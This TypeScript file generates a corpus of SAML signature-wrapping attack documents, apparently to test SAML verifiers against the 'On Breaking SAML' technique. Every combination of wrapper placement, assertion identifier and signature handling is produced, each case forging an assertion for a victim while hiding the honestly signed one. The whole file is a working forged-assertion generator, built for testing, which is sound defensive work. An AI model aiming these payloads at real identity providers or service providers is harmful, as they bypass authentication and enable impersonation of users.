import type { Attack } from '../corpus.ts';
import { asVictim, dsig, envelope, join, type Means } from '../forge.ts';

/**
 * Signature wrapping: the honest assertion is kept where the signature finds it, and another one is
 * put where the reader looks (Somorovsky and others, "On Breaking SAML", 2012: eight shapes; here
 * every combination of place, identifier and signature).
 */
export function wrappingCases({ good, parts }: Means): Attack[] {
  const { open, issuer, signature, body, id } = parts;
  const original = good;
  const originalUnsigned = join({ open, issuer, body, signature: '' });

  const identifiers: Record<string, (text: string) => string> = {
    'same-id': (text) => text,
    'other-id': (text) => text.replace(` ID="${id}"`, ' ID="_forged"'),
    'no-id': (text) => text.replace(` ID="${id}"`, ''),
  };
  const signatures: Record<string, { forged: string; kept: string }> = {
    // The forged assertion unsigned, the honest one whole.
    unsigned: { forged: '', kept: original },
    // The signature copied to the forged one as well.
    copied: { forged: signature, kept: original },
    // The signature moved to the forged one; the honest one without, so that the digest still
    // matches.
    moved: { forged: signature, kept: originalUnsigned },
  };
  /** Where the honest assertion is hidden; `forge` completes the forged one around it. */
  const places: Record<
    string,
    (forge: (signature: string, inside?: string) => string, sig: string, kept: string) => string
  > = {
    'before-in-security': (forge, sig, kept) => envelope(kept + forge(sig)),
    'after-in-security': (forge, sig, kept) => envelope(forge(sig) + kept),
    'in-header': (forge, sig, kept) => envelope(forge(sig), kept),
    'in-header-wrapper': (forge, sig, kept) => envelope(forge(sig), `<w:Wrapper xmlns:w="urn:w">${kept}</w:Wrapper>`),
    'in-body': (forge, sig, kept) => envelope(forge(sig), '', kept),
    'in-body-original-in-place': (forge, sig, kept) => envelope(kept, '', forge(sig)),
    'child-first': (forge, sig, kept) => envelope(forge(sig, '').replace('<saml2:Issuer', `${kept}<saml2:Issuer`)),
    'child-last': (forge, sig, kept) => envelope(forge(sig, kept)),
    'in-object': (forge, sig, kept) =>
      envelope(
        forge(
          sig === ''
            ? `<ds:Signature xmlns:ds="${dsig}"><ds:Object>${kept}</ds:Object></ds:Signature>`
            : sig.replace('</ds:Signature>', `<ds:Object>${kept}</ds:Object></ds:Signature>`),
        ),
      ),
    'in-key-info': (forge, sig, kept) =>
      envelope(forge(sig === '' ? kept : sig.replace('<ds:KeyInfo>', `<ds:KeyInfo>${kept}`))),
    'in-advice': (forge, sig, kept) => envelope(forge(sig, `<saml2:Advice>${kept}</saml2:Advice>`)),
    'in-attribute-value': (forge, sig, kept) =>
      envelope(
        forge(sig).replace(
          '</saml2:AttributeStatement>',
          `<saml2:Attribute Name="x"><saml2:AttributeValue>${kept}</saml2:AttributeValue></saml2:Attribute></saml2:AttributeStatement>`,
        ),
      ),
    around: (forge, sig, kept) =>
      envelope(
        kept.replace(
          '</saml2:AttributeStatement>',
          `<saml2:Attribute Name="x"><saml2:AttributeValue>${forge(sig)}</saml2:AttributeValue></saml2:Attribute></saml2:AttributeStatement>`,
        ),
      ),
    'bare-child': (forge, sig, kept) => forge(sig, kept),
    'bare-object': (forge, sig, kept) =>
      forge(
        sig === ''
          ? `<ds:Signature xmlns:ds="${dsig}"><ds:Object>${kept}</ds:Object></ds:Signature>`
          : sig.replace('</ds:Signature>', `<ds:Object>${kept}</ds:Object></ds:Signature>`),
      ),
    response: (forge, sig, kept) =>
      `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_response" Version="2.0">${forge(sig)}${kept}</samlp:Response>`,
  };

  const out: Attack[] = [];
  for (const [place, put] of Object.entries(places)) {
    for (const [idName, rename] of Object.entries(identifiers)) {
      for (const [sigName, { forged, kept }] of Object.entries(signatures)) {
        const forge = (sig: string, inside = ''): string =>
          rename(asVictim(open) + asVictim(issuer) + sig + asVictim(body) + inside + '</saml2:Assertion>');
        out.push({
          id: `wrap-${place}-${idName}-${sigName}`,
          family: 'wrapping',
          document: put(forge, forged, kept),
          rules: ['SAML-COUNT'],
        });
      }
    }
  }
  return out;
}
